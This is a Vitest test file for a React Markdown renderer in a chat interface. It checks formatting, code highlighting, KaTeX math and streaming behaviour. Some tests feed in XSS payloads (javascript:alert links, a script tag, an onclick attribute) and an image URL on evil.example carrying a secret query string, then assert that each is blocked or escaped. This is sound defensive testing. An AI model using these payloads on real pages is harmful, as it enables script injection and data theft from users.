import { renderToStaticMarkup } from "react-dom/server";
import { beforeAll, describe, expect, test } from "vitest";
import { CodeBlock } from "./code-block.js";
import { markdownRenderer, preloadLazyParts } from "./lazy-parts.js";
import { MarkdownMessage } from "./markdown-message.js";

const render = (text: string, streaming = false) =>
  renderToStaticMarkup(<MarkdownMessage text={text} streaming={streaming} />);

test("until the renderer has loaded, a reply is plain text", () => {
  expect(render("**<b>hi</b>**\n\nnext")).toBe(
    '<div class="md"><p class="md-plain">**&lt;b&gt;hi&lt;/b&gt;**\n\nnext</p></div>',
  );
});

describe("MarkdownMessage before highlighting and KaTeX have loaded", () => {
  beforeAll(() => markdownRenderer.load());

  test("code is plain monospace text and math is TeX source", () => {
    const html = render("```js\nconst a = 1;\n```\n\nInline $x^2$ and\n\n$$\n\\int x\n$$\n");
    expect(html).toContain('<code class="hljs">const a = 1;</code>');
    expect(html).toContain('<code class="md-math-source">x^2</code>');
    expect(html).toContain('<pre class="md-math-source"><code>\\int x</code></pre>');
    expect(html).not.toContain("katex");
  });
});

describe("MarkdownMessage", () => {
  beforeAll(preloadLazyParts);

  test("renders headings, emphasis, lists, task lists, quotes and inline code", () => {
    const html = render(
      "# Title\n\nSome **bold**, *italic*, ~~struck~~ and `code`.\n\n- one\n- two\n\n" +
        "1. first\n2. second\n\n- [x] done\n- [ ] todo\n\n> quoted\n\n---\n",
    );
    expect(html).toContain("<h1>Title</h1>");
    expect(html).toContain("<strong>bold</strong>");
    expect(html).toContain("<em>italic</em>");
    expect(html).toContain("<del>struck</del>");
    expect(html).toContain('<code class="md-inline-code">code</code>');
    expect(html).toContain("<ul>\n<li>one</li>\n<li>two</li>\n</ul>");
    expect(html).toContain("<ol>\n<li>first</li>");
    expect(html).toMatch(/<input type="checkbox" disabled="" checked=""\/> done/);
    expect(html).toContain("<blockquote>\n<p>quoted</p>\n</blockquote>");
    expect(html).toContain("<hr/>");
  });

  test("a single ~ is not strikethrough", () => {
    expect(render("about ~5 minutes, or ~10")).toBe(
      '<div class="md"><p>about ~5 minutes, or ~10</p></div>',
    );
  });

  test("tables scroll sideways inside their own box", () => {
    const html = render("| Name | Age |\n| :-- | --: |\n| Ada | 36 |\n");
    expect(html).toContain('<div class="md-table-scroll"><table><thead>');
    expect(html).toContain('<td style="text-align:right">36</td>');
  });

  test("code blocks are highlighted, labelled and copyable", () => {
    const html = render("```python\ndef f(): return 1\n```\n");
    expect(html).toContain("<span>python</span>");
    expect(html).toContain('aria-label="Copy code"');
    expect(html).toContain('<span class="hljs-keyword">def</span>');
    expect(html).toContain('<span class="hljs-title function_">f</span>');
  });

  test("code in an unknown language, without one, or too long stays plain", () => {
    expect(render("```nosuchlang\nx <y>\n```\n")).toContain(
      '<code class="hljs">x &lt;y&gt;</code>',
    );
    expect(render("```\nif x\n```\n")).toContain('<code class="hljs">if x</code>');
    const long = "let a = 1;\n".repeat(5_001);
    expect(renderToStaticMarkup(<CodeBlock code={long} language="js" />)).not.toContain("hljs-");
    expect(renderToStaticMarkup(<CodeBlock code="let a" language="js" />)).toContain("hljs-");
  });

  test("math is typeset by KaTeX", () => {
    const html = render("Euler: $e^{i\\pi} + 1 = 0$\n\n$$\n\\frac{a}{b}\n$$\n");
    expect(html).toContain('class="katex"');
    expect(html).toContain('class="katex-display"');
    expect(html).toContain("<math");
  });

  test("KaTeX's link and HTML commands produce neither", () => {
    const html = render(
      "$\\href{javascript:alert(1)}{x}$ $\\url{https://evil.example}$ $\\htmlClass{x}{y}$",
    );
    expect(html).not.toMatch(/<a[\s>]|href=/);
    expect(html).not.toContain('class="x"');
  });

  test("raw HTML is shown as text", () => {
    const html = render('<b onclick="x()">hi</b>\n\n<div>\n<script>alert(1)</script>\n</div>\n');
    expect(html).toContain("&lt;b onclick=&quot;x()&quot;&gt;hi&lt;/b&gt;");
    expect(html).toContain("&lt;script&gt;alert(1)&lt;/script&gt;");
    expect(html).not.toContain("<script");
    expect(html).not.toContain("<b ");
  });

  test("safe links open in a new tab; others are only text", () => {
    expect(render("[site](https://example.com)")).toContain(
      '<a href="https://example.com/" target="_blank" rel="noopener noreferrer nofollow">site</a>',
    );
    expect(render("<https://example.com> and www.example.org")).toContain(
      '<a href="http://www.example.org/"',
    );
    const blocked = render("[click](javascript:alert(1)) <javascript:alert(2)> [rel](/chat)");
    expect(blocked).not.toContain("<a");
    expect(blocked).toContain('<span class="md-link-text">click</span>');
  });

  test("images: platform files inline, other hosts on request, other schemes never", () => {
    expect(render("![chart](/files/chart.png)")).toContain(
      '<img src="/files/chart.png" alt="chart" loading="lazy" referrerPolicy="no-referrer" class="md-image"/>',
    );
    const external = render("![x](https://evil.example/p.png?q=secret)");
    expect(external).not.toContain("<img");
    expect(external).toContain(
      '<button type="button" class="md-image-request" title="https://evil.example/p.png?q=secret">' +
        "Image from evil.example — Load</button>",
    );
    const data = render("![pixel](data:image/png;base64,AAAA)");
    expect(data).toBe('<div class="md"><p><span class="md-image-blocked">pixel</span></p></div>');
  });
});

describe("MarkdownMessage while streaming", () => {
  beforeAll(preloadLazyParts);

  test("an unterminated code fence is already a code block, without stray backticks", () => {
    const html = render("Here:\n\n```ts\nconst a = 1;\n``", true);
    expect(html).toContain("<span>ts</span>");
    expect(html).toContain('<span class="hljs-keyword">const</span>');
    expect(html).not.toContain("``");
  });

  test("unterminated emphasis and links do not flash raw syntax", () => {
    expect(render("This is **very imp", true)).toContain("<strong>very imp</strong>");
    expect(render("Read [the docs](https://exa", true)).toBe(
      '<div class="md"><p>Read the docs</p></div>',
    );
  });

  test("a table shows as a table from its header line on", () => {
    expect(render("| Name | Age |\n", true)).toContain("<th>Name</th>");
    expect(render("| Name | Age |\n| -", true)).toContain("<th>Age</th>");
    expect(render("| Name | Age |\n| - | - |\n| Ada | 3", true)).toContain("<td>3</td>");
  });

  test("the finished text renders without repairs", () => {
    expect(render("2 * 3 **not bold", false)).toBe('<div class="md"><p>2 * 3 **not bold</p></div>');
  });

  test("a pathological line is plain text, and the blocks around it still render", () => {
    const html = render(`# Before\n\n${"[a](".repeat(6_000)}\n\n**after**\n`, true);
    expect(html).toContain("<h1>Before</h1>");
    expect(html).toContain('<p class="md-plain">[a]([a](');
    expect(html).toContain("<strong>after</strong>");
  });
});
